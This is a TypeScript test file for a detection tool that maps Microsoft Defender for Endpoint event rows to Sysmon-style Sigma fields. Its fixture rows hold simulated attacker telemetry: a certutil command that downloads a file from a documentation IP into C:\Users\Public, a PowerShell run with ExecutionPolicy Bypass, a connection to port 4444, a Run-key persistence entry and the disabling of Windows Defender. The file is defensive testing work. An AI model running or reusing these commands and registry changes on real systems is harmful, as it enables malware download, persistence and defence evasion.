/**
 * Field by field: every field view of the mapping, on rows spelled as MDE writes them, gives the value
 * Sysmon would have written. The last test fails when a view is added without a case here.
 */
import type { MdeEvent } from '@tripline/core';
import { describe, expect, it } from 'vitest';
import { linuxRow, windowsRow } from '../../test/support/mde-rows.js';
import type { SigmaFieldValue, SigmaRoute } from '../ir.js';
import { mdeMapping, mdeMappingTable } from './index.js';

const mapping = mdeMapping();

function route(product: 'windows' | 'linux', category: string): SigmaRoute {
  const r = mapping.route({ product, category });
  if (!r.ok) throw new Error(r.reason.message);
  return r.route;
}

type Case = readonly [row: MdeEvent, expected: SigmaFieldValue];

// ───────────── rows ─────────────

const winProcess = windowsRow('DeviceProcessEvents', 'ProcessCreated', {
  FileName: 'certutil.exe',
  FolderPath: 'C:\\Windows\\System32\\certutil.exe',
  SHA1: '6e8a4fa3b1d1a44d2e1d4ca5bbd2a2b1c0e9f8d7',
  SHA256: '9a3f1e0c5b7d2a4e6c8b0d1f3a5c7e9b2d4f6a8c0e1b3d5f7a9c2e4b6d8f0a1c',
  MD5: '0f1e2d3c4b5a69788796a5b4c3d2e1f0',
  ProcessVersionInfoCompanyName: 'Microsoft Corporation',
  ProcessVersionInfoProductName: 'Microsoft® Windows® Operating System',
  ProcessVersionInfoProductVersion: '10.0.19041.1',
  ProcessVersionInfoInternalFileName: 'CertUtil.exe',
  ProcessVersionInfoOriginalFileName: 'CertUtil.exe',
  ProcessVersionInfoFileDescription: 'CertUtil.exe',
  ProcessId: 9120,
  ProcessCommandLine: 'certutil.exe  -urlcache -split -f http://203.0.113.7/a.txt C:\\Users\\Public\\a.exe',
  ProcessIntegrityLevel: 'High',
  ProcessTokenElevation: 'TokenElevationTypeFull',
  AccountDomain: 'CONTOSO',
  AccountName: 'j.doe',
  AccountSid: 'S-1-5-21-1004336348-1177238915-682003330-1106',
  LogonId: 999,
});
// Some exports hold only the folder in InitiatingProcessFolderPath.
const winProcessFolderOnly = windowsRow('DeviceProcessEvents', 'ProcessCreated', {
  FileName: 'whoami.exe',
  FolderPath: 'C:\\Windows\\System32\\whoami.exe',
  InitiatingProcessFolderPath: 'C:\\Windows\\System32',
  InitiatingProcessFileName: 'cmd.exe',
  InitiatingProcessAccountDomain: 'nt authority',
  InitiatingProcessAccountName: 'system',
  AccountName: 'system',
  ProcessCommandLine: 'whoami /all',
});
const linuxProcess = linuxRow('DeviceProcessEvents', 'ProcessCreated', {
  FileName: 'sh',
  FolderPath: '/usr/bin/sh',
  ProcessCommandLine: '/bin/sh -c /etc/opt/microsoft/scx/conf/tmpdir/scx-1.sh',
  ProcessId: 30211,
  AccountDomain: 'web-01',
  AccountName: 'root',
  AccountSid: 'S-1-5-18',
  LogonId: 0,
  SHA256: '4b6c1e5f0a9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b',
});

const winFile = windowsRow('DeviceFileEvents', 'FileCreated', {
  FileName: 'update.ps1',
  FolderPath: 'C:\\Users\\j.doe\\AppData\\Local\\Temp\\update.ps1',
  SHA1: '1f2e3d4c5b6a79887766554433221100ffeeddcc',
  SHA256: 'aa11bb22cc33dd44ee55ff6600778899aabbccddeeff00112233445566778899',
  MD5: '00112233445566778899aabbccddeeff',
  FileSize: 2048,
});
const winRename = windowsRow('DeviceFileEvents', 'FileRenamed', {
  FileName: 'Q3-report.docx.locked',
  FolderPath: 'C:\\Users\\j.doe\\Documents\\Q3-report.docx.locked',
  PreviousFileName: 'Q3-report.docx',
  PreviousFolderPath: 'C:\\Users\\j.doe\\Documents',
});
const linuxFile = linuxRow('DeviceFileEvents', 'FileCreated', {
  FileName: 'authorized_keys',
  FolderPath: '/root/.ssh/authorized_keys',
  InitiatingProcessFolderPath: '/usr/bin',
  InitiatingProcessFileName: 'tee',
});

const outbound = windowsRow('DeviceNetworkEvents', 'ConnectionSuccess', {
  RemoteIP: '203.0.113.7',
  RemotePort: 443,
  RemoteUrl: 'https://raw.githubusercontent.com/x/payload.ps1',
  LocalIP: '::ffff:10.20.30.40',
  LocalPort: 51744,
  Protocol: 'Tcp',
  LocalIPType: 'Private',
  RemoteIPType: 'Public',
});
const inbound = windowsRow('DeviceNetworkEvents', 'InboundConnectionAccepted', {
  RemoteIP: '2001:db8::5',
  RemotePort: 50122,
  LocalIP: 'fe80::1c2d:3e4f:5a6b:7c8d',
  LocalPort: 3389,
  Protocol: 'TcpV6',
});
const found = windowsRow('DeviceNetworkEvents', 'ConnectionFound', { RemoteIP: '198.51.100.2', RemotePort: 80 });
const linuxOutbound = linuxRow('DeviceNetworkEvents', 'ConnectionSuccess', {
  RemoteIP: '198.51.100.9',
  RemotePort: 4444,
  LocalIP: '10.0.0.5',
  LocalPort: 40112,
  Protocol: 'Tcp',
});

const valueSet = windowsRow('DeviceRegistryEvents', 'RegistryValueSet', {
  RegistryKey: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\WinDefend',
  RegistryValueName: 'Start',
  RegistryValueType: 'Dword',
  RegistryValueData: '4',
});
const userValue = windowsRow('DeviceRegistryEvents', 'RegistryValueSet', {
  RegistryKey:
    'HKEY_CURRENT_USER\\S-1-5-21-1004336348-1177238915-682003330-1106\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
  RegistryValueName: 'Updater',
  RegistryValueType: 'String',
  RegistryValueData: 'C:\\Users\\Public\\a.exe',
});
const defaultValue = windowsRow('DeviceRegistryEvents', 'RegistryValueSet', {
  RegistryKey: 'HKEY_CLASSES_ROOT\\exefile\\shell\\open\\command',
  RegistryValueType: 'String',
});
const qwordValue = windowsRow('DeviceRegistryEvents', 'RegistryValueSet', {
  RegistryKey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Contoso',
  RegistryValueName: 'Stamp',
  RegistryValueType: 'Qword',
  RegistryValueData: '133769000000000000',
});
const binaryValue = windowsRow('DeviceRegistryEvents', 'RegistryValueSet', {
  RegistryKey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Contoso',
  RegistryValueName: 'Blob',
  RegistryValueType: 'Binary',
  RegistryValueData: '01000000D08C9DDF0115D1118C7A00C04FC297EB',
});
const keyCreated = windowsRow('DeviceRegistryEvents', 'RegistryKeyCreated', {
  RegistryKey: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\MiniNt',
});
const valueDeleted = windowsRow('DeviceRegistryEvents', 'RegistryValueDeleted', {
  RegistryKey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths',
  RegistryValueName: 'C:\\Temp',
});
const renamed = windowsRow('DeviceRegistryEvents', 'RegistryKeyRenamed', {
  PreviousRegistryKey: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\MiniNt_old',
  RegistryKey: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\MiniNt',
});

// ───────────── expected values, per route and field ─────────────

const initiatingCases = {
  Image: [
    [winFile, 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe'],
    [winProcessFolderOnly, 'C:\\Windows\\System32\\cmd.exe'],
  ],
  CommandLine: [[winFile, '"powershell.exe" -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\j.doe\\run.ps1']],
  ParentImage: [[winFile, '\\explorer.exe']],
  ProcessId: [[winFile, 7344]],
  User: [[winFile, 'contoso\\j.doe']],
} satisfies Record<string, readonly Case[]>;

const CASES: Record<string, Record<string, readonly Case[]>> = {
  'windows/process_creation': {
    Image: [
      [winProcess, 'C:\\Windows\\System32\\certutil.exe'],
      [winProcessFolderOnly, 'C:\\Windows\\System32\\whoami.exe'],
    ],
    CommandLine: [[winProcess, 'certutil.exe  -urlcache -split -f http://203.0.113.7/a.txt C:\\Users\\Public\\a.exe']],
    OriginalFileName: [[winProcess, 'CertUtil.exe']],
    Description: [[winProcess, 'CertUtil.exe']],
    Product: [[winProcess, 'Microsoft® Windows® Operating System']],
    Company: [[winProcess, 'Microsoft Corporation']],
    FileVersion: [[winProcess, '10.0.19041.1']],
    ParentImage: [
      [winProcess, 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe'],
      [winProcessFolderOnly, 'C:\\Windows\\System32\\cmd.exe'],
    ],
    ParentCommandLine: [
      [winProcess, '"powershell.exe" -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\j.doe\\run.ps1'],
    ],
    ProcessId: [[winProcess, 9120]],
    ParentProcessId: [[winProcess, 7344]],
    md5: [[winProcess, '0f1e2d3c4b5a69788796a5b4c3d2e1f0']],
    sha1: [[winProcess, '6e8a4fa3b1d1a44d2e1d4ca5bbd2a2b1c0e9f8d7']],
    sha256: [[winProcess, '9a3f1e0c5b7d2a4e6c8b0d1f3a5c7e9b2d4f6a8c0e1b3d5f7a9c2e4b6d8f0a1c']],
    Hashes: [
      [
        winProcess,
        'SHA1=6E8A4FA3B1D1A44D2E1D4CA5BBD2A2B1C0E9F8D7,MD5=0F1E2D3C4B5A69788796A5B4C3D2E1F0,SHA256=9A3F1E0C5B7D2A4E6C8B0D1F3A5C7E9B2D4F6A8C0E1B3D5F7A9C2E4B6D8F0A1C',
      ],
      // The initiating hashes are not the process's: no Hashes.
      [winProcessFolderOnly, undefined],
    ],
    User: [
      [winProcess, 'CONTOSO\\j.doe'],
      [winProcessFolderOnly, 'system'],
    ],
    ParentUser: [
      [winProcess, 'contoso\\j.doe'],
      [winProcessFolderOnly, 'nt authority\\system'],
    ],
    LogonId: [[winProcess, '0x3e7']],
    IntegrityLevel: [[winProcess, 'High']],
  },
  'linux/process_creation': {
    Image: [[linuxProcess, '/usr/bin/sh']],
    CommandLine: [[linuxProcess, '/bin/sh -c /etc/opt/microsoft/scx/conf/tmpdir/scx-1.sh']],
    OriginalFileName: [[linuxProcess, undefined]],
    Description: [[linuxProcess, undefined]],
    Product: [[linuxProcess, undefined]],
    Company: [[linuxProcess, undefined]],
    FileVersion: [[linuxProcess, undefined]],
    ParentImage: [[linuxProcess, '/usr/bin/bash']],
    ParentCommandLine: [[linuxProcess, 'bash -c "/opt/omi/bin/omiagent"']],
    ProcessId: [[linuxProcess, 30211]],
    ParentProcessId: [[linuxProcess, 2211]],
    md5: [[linuxProcess, undefined]],
    sha1: [[linuxProcess, undefined]],
    sha256: [[linuxProcess, '4b6c1e5f0a9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b']],
    Hashes: [[linuxProcess, 'SHA256=4B6C1E5F0A9D8C7B6A5F4E3D2C1B0A9F8E7D6C5B4A3F2E1D0C9B8A7F6E5D4C3B']],
    User: [[linuxProcess, 'root']],
    ParentUser: [[linuxProcess, 'root']],
    LogonId: [[linuxProcess, '0']],
    CurrentDirectory: [[linuxProcess, '/var/opt/microsoft/scx/tmp']],
  },
  'windows/file_event': {
    TargetFilename: [[winFile, 'C:\\Users\\j.doe\\AppData\\Local\\Temp\\update.ps1']],
    SourceFilename: [
      [winRename, 'C:\\Users\\j.doe\\Documents\\Q3-report.docx'],
      [winFile, undefined],
    ],
    ...initiatingCases,
    IntegrityLevel: [[winFile, 'Medium']],
    md5: [[winFile, '00112233445566778899aabbccddeeff']],
    sha1: [[winFile, '1f2e3d4c5b6a79887766554433221100ffeeddcc']],
    sha256: [[winFile, 'aa11bb22cc33dd44ee55ff6600778899aabbccddeeff00112233445566778899']],
    Hashes: [
      [
        winFile,
        'SHA1=1F2E3D4C5B6A79887766554433221100FFEEDDCC,MD5=00112233445566778899AABBCCDDEEFF,SHA256=AA11BB22CC33DD44EE55FF6600778899AABBCCDDEEFF00112233445566778899',
      ],
    ],
  },
  'linux/file_event': {
    TargetFilename: [[linuxFile, '/root/.ssh/authorized_keys']],
    SourceFilename: [[linuxFile, undefined]],
    Image: [[linuxFile, '/usr/bin/tee']],
    CommandLine: [[linuxFile, 'bash -c "/opt/omi/bin/omiagent"']],
    ParentImage: [[linuxFile, '/omiagent']],
    ProcessId: [[linuxFile, 2211]],
    User: [[linuxFile, 'root']],
    IntegrityLevel: [[linuxFile, undefined]],
    md5: [[linuxFile, undefined]],
    sha1: [[linuxFile, undefined]],
    sha256: [[linuxFile, undefined]],
    Hashes: [[linuxFile, undefined]],
  },
  'windows/network_connection': {
    ...initiatingCases,
    Initiated: [
      [outbound, 'true'],
      [inbound, 'false'],
      [found, undefined],
    ],
    DestinationIp: [
      [outbound, '203.0.113.7'],
      [inbound, 'fe80::1c2d:3e4f:5a6b:7c8d'],
    ],
    DestinationPort: [
      [outbound, 443],
      [inbound, 3389],
    ],
    DestinationHostname: [
      [outbound, 'raw.githubusercontent.com'],
      [inbound, 'ws-fin-042.contoso.local'],
      [found, undefined],
    ],
    DestinationIsIpv6: [
      [outbound, 'false'],
      [inbound, 'true'],
    ],
    SourceIp: [
      [outbound, '10.20.30.40'],
      [inbound, '2001:db8::5'],
    ],
    SourcePort: [
      [outbound, 51744],
      [inbound, 50122],
    ],
    SourceHostname: [
      [outbound, 'ws-fin-042.contoso.local'],
      [inbound, undefined],
    ],
    SourceIsIpv6: [
      [outbound, 'false'],
      [inbound, 'true'],
    ],
    Protocol: [
      [outbound, 'tcp'],
      [inbound, 'tcp'],
    ],
  },
  'linux/network_connection': {
    Image: [[linuxOutbound, '/usr/bin/bash']],
    CommandLine: [[linuxOutbound, 'bash -c "/opt/omi/bin/omiagent"']],
    ParentImage: [[linuxOutbound, '/omiagent']],
    ProcessId: [[linuxOutbound, 2211]],
    User: [[linuxOutbound, 'root']],
    Initiated: [[linuxOutbound, 'true']],
    DestinationIp: [[linuxOutbound, '198.51.100.9']],
    DestinationPort: [[linuxOutbound, 4444]],
    DestinationHostname: [[linuxOutbound, undefined]],
    DestinationIsIpv6: [[linuxOutbound, 'false']],
    SourceIp: [[linuxOutbound, '10.0.0.5']],
    SourcePort: [[linuxOutbound, 40112]],
    SourceHostname: [[linuxOutbound, 'web-01']],
    SourceIsIpv6: [[linuxOutbound, 'false']],
    Protocol: [[linuxOutbound, 'tcp']],
  },
  'windows/registry_event': {
    TargetObject: [
      [valueSet, 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend\\Start'],
      [
        userValue,
        'HKU\\S-1-5-21-1004336348-1177238915-682003330-1106\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
      ],
      [defaultValue, 'HKCR\\exefile\\shell\\open\\command\\(Default)'],
      [keyCreated, 'HKLM\\SYSTEM\\CurrentControlSet\\Control\\MiniNt'],
      [valueDeleted, 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Temp'],
      [renamed, 'HKLM\\SYSTEM\\CurrentControlSet\\Control\\MiniNt_old'],
    ],
    Details: [
      [valueSet, 'DWORD (0x00000004)'],
      [userValue, 'C:\\Users\\Public\\a.exe'],
      [defaultValue, '(Empty)'],
      [qwordValue, 'QWORD (0x01db3e32-0x5ef59000)'],
      [binaryValue, 'Binary Data'],
      [keyCreated, undefined],
      [valueDeleted, undefined],
    ],
    EventType: [
      [valueSet, 'SetValue'],
      [keyCreated, 'CreateKey'],
      [valueDeleted, 'DeleteValue'],
      [renamed, 'RenameKey'],
    ],
    EventID: [
      [valueSet, 13],
      [keyCreated, 12],
      [valueDeleted, 12],
      [renamed, 14],
    ],
    NewName: [
      [renamed, 'HKLM\\SYSTEM\\CurrentControlSet\\Control\\MiniNt'],
      [valueSet, undefined],
    ],
    Image: [[valueSet, 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe']],
    ParentImage: [[valueSet, '\\explorer.exe']],
    ProcessId: [[valueSet, 7344]],
    User: [[valueSet, 'contoso\\j.doe']],
  },
};

describe('field views on MDE rows', () => {
  for (const [where, fields] of Object.entries(CASES)) {
    const [product, category] = where.split('/') as ['windows' | 'linux', string];
    describe(where, () => {
      for (const [field, cases] of Object.entries(fields)) {
        it(field, () => {
          const result = mapping.field(route(product, category), field);
          if (!result.ok) throw new Error(result.reason.message);
          expect(result.view.field).toBe(field);
          for (const [row, expected] of cases) expect(result.view.get(row)).toBe(expected);
        });
      }
    });
  }

  it('every mapped field of every table has a case above', () => {
    const byTable: Record<string, string> = {
      'DeviceProcessEvents/windows': 'windows/process_creation',
      'DeviceProcessEvents/linux': 'linux/process_creation',
      'DeviceFileEvents/windows': 'windows/file_event',
      'DeviceFileEvents/linux': 'linux/file_event',
      'DeviceNetworkEvents/windows': 'windows/network_connection',
      'DeviceNetworkEvents/linux': 'linux/network_connection',
      'DeviceRegistryEvents/windows': 'windows/registry_event',
    };
    const missing: string[] = [];
    for (const t of mdeMappingTable().tables) {
      const where = byTable[`${t.table}/${t.platform}`];
      if (where === undefined) throw new Error(`no cases for ${t.table}/${t.platform}`);
      for (const f of t.fields) if (CASES[where]?.[f.field] === undefined) missing.push(`${where} ${f.field}`);
    }
    expect(missing).toEqual([]);
  });
});

describe('view properties', () => {
  const field = (product: 'windows' | 'linux', category: string, name: string) => {
    const r = mapping.field(route(product, category), name);
    if (!r.ok) throw new Error(r.reason.message);
    return r.view;
  };

  it('initiating paths are marked lower-cased, the process path is not', () => {
    expect(field('windows', 'process_creation', 'ParentImage').lowercased).toBe(true);
    expect(field('windows', 'file_event', 'Image').lowercased).toBe(true);
    expect(field('windows', 'registry_set', 'Image').lowercased).toBe(true);
    expect(field('windows', 'process_creation', 'Image').lowercased).toBeUndefined();
  });

  it('ParentImage from a base name and FileVersion from the product version are degraded', () => {
    expect(field('windows', 'network_connection', 'ParentImage').degraded).toMatch(/parent file name only/);
    expect(field('windows', 'process_creation', 'FileVersion').degraded).toMatch(/product version/);
    expect(field('windows', 'process_creation', 'ParentImage').degraded).toBeUndefined();
  });

  it('Hashes says which values can never match (IMPHASH)', () => {
    const hashes = field('windows', 'process_creation', 'Hashes');
    expect(hashes.neverMatches?.('IMPHASH=1B1A3F43BF37B5BFE60751F2EE2F326E')).toMatch(/IMPHASH/);
    expect(hashes.neverMatches?.('SHA256=9A3F1E0C')).toBeUndefined();
  });

  it('keys are unique per table, field and platform; columns name what is read', () => {
    expect(field('windows', 'process_creation', 'User').key).toBe('DeviceProcessEvents.User');
    expect(field('linux', 'process_creation', 'User').key).toBe('DeviceProcessEvents.User@linux');
    expect(field('windows', 'registry_set', 'TargetObject').columns).toEqual([
      'RegistryKey',
      'RegistryValueName',
      'PreviousRegistryKey',
    ]);
    const keys = new Set<string>();
    for (const t of mdeMappingTable().tables) {
      const where = t.platform === 'linux' ? 'linux' : 'windows';
      const category = {
        DeviceProcessEvents: 'process_creation',
        DeviceFileEvents: 'file_event',
        DeviceNetworkEvents: 'network_connection',
        DeviceRegistryEvents: 'registry_event',
      }[t.table as string] as string;
      for (const f of t.fields) keys.add(field(where, category, f.field).key);
    }
    const count = mdeMappingTable().tables.reduce((n, t) => n + t.fields.length, 0);
    expect(keys.size).toBe(count);
  });
});
